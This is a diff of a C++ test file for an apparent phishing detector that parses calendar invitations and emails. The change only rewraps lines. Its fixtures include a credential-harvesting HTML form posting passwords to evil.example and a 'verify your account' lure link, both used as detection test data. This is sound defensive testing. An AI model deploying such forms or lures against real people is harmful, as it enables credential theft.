@@ -59,7 +59,8 @@ TEST_CASE("a description in HTML gives its links") {
 
 TEST_CASE("the pages of services for meetings are told from others") {
   const auto found = inspect(
-      "DESCRIPTION:Join https://teams.microsoft.com/l/meetup-join/1 or\\nhttps://us02web.zoom.us/j/1"
+      "DESCRIPTION:Join https://teams.microsoft.com/l/meetup-join/1 "
+      "or\\nhttps://us02web.zoom.us/j/1"
       "\r\nX-GOOGLE-CONFERENCE:https://meet.google.com/abc");
   CHECK(found.holds("calendar_meeting"));
   CHECK_FALSE(found.holds("calendar_link"));
@@ -74,8 +75,9 @@ TEST_CASE("who invites is told") {
 
 TEST_CASE("a file in an event is looked into") {
   const std::string page = "<form action='https://evil.example/take'><input type=password></form>";
-  const auto found = inspect("ATTACH;FMTTYPE=text/html;ENCODING=BASE64;VALUE=BINARY;FILENAME=a.html:" +
-                             one_line_base64(page));
+  const auto found =
+      inspect("ATTACH;FMTTYPE=text/html;ENCODING=BASE64;VALUE=BINARY;FILENAME=a.html:" +
+              one_line_base64(page));
   CHECK(detail_of(found, "calendar_attachment") == "a.html");
   CHECK(found.holds("password_form"));
   CHECK(found.urls() == Texts{"https://evil.example/take"});
@@ -106,10 +108,12 @@ TEST_CASE("UTF-16 is read, and the bounds are said") {
 
 TEST_CASE("an invitation that is one of the mail's alternatives is looked into") {
   const std::string mail =
-      "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n"
+      "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/alternative; "
+      "boundary=b\r\n"
       "\r\n--b\r\nContent-Type: text/plain\r\n\r\nCome\r\n"
       "--b\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\n" +
-      event("DESCRIPTION:Verify your\r\n  account\\, at https://evil.exam\r\n ple/x") + "\r\n--b--\r\n";
+      event("DESCRIPTION:Verify your\r\n  account\\, at https://evil.exam\r\n ple/x") +
+      "\r\n--b--\r\n";
   ParsedMessage message = parse_message(mail);
   CHECK(message.body_text.find("Verify your account, at https://evil.example/x") !=
         std::string::npos);
